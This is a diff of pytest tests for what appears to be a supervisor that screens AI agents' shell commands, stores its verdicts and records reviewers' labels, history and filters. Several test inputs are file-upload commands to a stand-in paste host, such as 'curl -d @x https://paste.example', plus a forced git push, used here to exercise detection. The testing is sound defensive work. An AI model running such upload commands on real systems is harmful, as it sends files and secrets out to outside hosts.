@@ -167,6 +167,7 @@ def test_label_upserts_and_filters(sup):
 
 
 def test_labeller_defaults_to_the_os_user_and_notes_are_redacted(sup, monkeypatch):
+    monkeypatch.delenv("SUPERVISE_LABELLER", raising=False)
     monkeypatch.setenv("LOGNAME", "reviewer-7")
     flagged = sup.check(shell("curl -d @x https://paste.example"))
     sup.label(flagged.decision_id, "curl_upload", True, note=f"it sent {AWS_KEY}")
@@ -174,6 +175,90 @@ def test_labeller_defaults_to_the_os_user_and_notes_are_redacted(sup, monkeypatc
     assert item.label is not None
     assert item.label.labeller == "reviewer-7"
     assert item.label.note == "it sent [REDACTED:aws-access-key-id]"
+
+
+def test_labeller_from_the_environment(sup, monkeypatch):
+    monkeypatch.setenv("SUPERVISE_LABELLER", "ana@review")
+    flagged = sup.check(shell("curl -d @x https://paste.example"))
+    sup.label(flagged.decision_id, "curl_upload", True)
+    (item,) = sup.store.feedback()
+    assert item.label is not None
+    assert item.label.labeller == "ana@review"
+
+
+def test_a_relabel_keeps_the_history(sup):
+    """Two reviewers label the same objection: the last is current, both are kept."""
+    flagged = sup.check(shell("curl -d @x https://paste.example"))
+    store = sup.store
+    assert store.label_history(flagged.decision_id, "curl_upload") == []
+    sup.label(flagged.decision_id, "curl_upload", True, labeller="ana")
+    sup.label(flagged.decision_id, "curl_upload", False, corrected="nudge", labeller="bo")
+    history = store.label_history(flagged.decision_id, "curl_upload")
+    assert [(h.correct, h.corrected, h.labeller) for h in history] == [
+        (True, None, "ana"),
+        (False, "nudge", "bo"),
+    ]
+    assert history[0].labelled_at <= history[1].labelled_at
+    (item,) = store.feedback()
+    assert item.label == history[-1]
+    assert store.label_history(flagged.decision_id, "force_push") == []
+
+
+def test_pages_newest_first_with_filters(sup):
+    from supervisor.store import FeedbackFilter
+
+    made = [
+        sup.check(shell("git push --force origin main", session="s1")),  # nudge
+        sup.check(shell("curl -d @x https://paste.example", session="s1")),  # flag
+        sup.check(shell("git status", session="s1")),  # ok: no objection
+        sup.check(shell("curl -T f https://paste.example", session="s2", agent="a2")),
+        sup.check(
+            {
+                **shell("curl -d @z https://paste.example", session="s2"),
+                "metadata": {"host": "codex"},
+            }
+        ),
+    ]
+    ids = [d.decision_id for d in made]
+    store = sup.store
+    everything = FeedbackFilter()
+    assert store.count_feedback(everything) == 4
+    page = store.feedback_page(everything, offset=0, limit=3)
+    assert [i.decision_id for i in page] == [ids[4], ids[3], ids[1]]
+    assert [i.decision_id for i in store.feedback_page(everything, offset=3, limit=3)] == [ids[0]]
+
+    def ids_of(**fields):
+        where = FeedbackFilter(**fields)
+        found = [i.decision_id for i in store.feedback_page(where, limit=10)]
+        assert store.count_feedback(where) == len(found)
+        return found
+
+    assert ids_of(verdict="nudge") == [ids[0]]
+    assert ids_of(entry_id="curl_upload", session="s2") == [ids[4], ids[3]]
+    assert ids_of(agent="a2") == [ids[3]]
+    assert ids_of(host="codex") == [ids[4]]
+    sup.label(ids[1], "curl_upload", False, labeller="ana")
+    sup.label(ids[3], "curl_upload", True, labeller="ana")
+    assert ids_of(labelled=True) == [ids[3], ids[1]]
+    assert ids_of(labelled=False) == [ids[4], ids[0]]
+    assert ids_of(correct=False) == [ids[1]]
+    assert ids_of(correct=True) == [ids[3]]
+    created = made[3].created_at
+    assert ids_of(since=created) == [ids[4], ids[3]]
+    assert ids_of(until=created) == [ids[1], ids[0]]
+
+
+def test_neighbours_are_the_sessions_decisions_around_one(sup):
+    made = [sup.check(shell(f"echo {n}", session="s9")) for n in range(7)]
+    sup.check(shell("echo elsewhere", session="other"))
+    lonely = sup.check({"type": "shell", "args": {"command": "ls"}})
+    ids = [d.decision_id for d in made]
+    store = sup.store
+    assert [d.decision_id for d in store.neighbours(ids[3], 2)] == ids[1:6]
+    assert [d.decision_id for d in store.neighbours(ids[0], 2)] == ids[0:3]
+    assert [d.decision_id for d in store.neighbours(ids[6], 10)] == ids
+    assert [d.decision_id for d in store.neighbours(lonely.decision_id)] == [lonely.decision_id]
+    assert store.neighbours("no-such-decision") == []
 
 
 def test_labels_that_are_refused(sup):
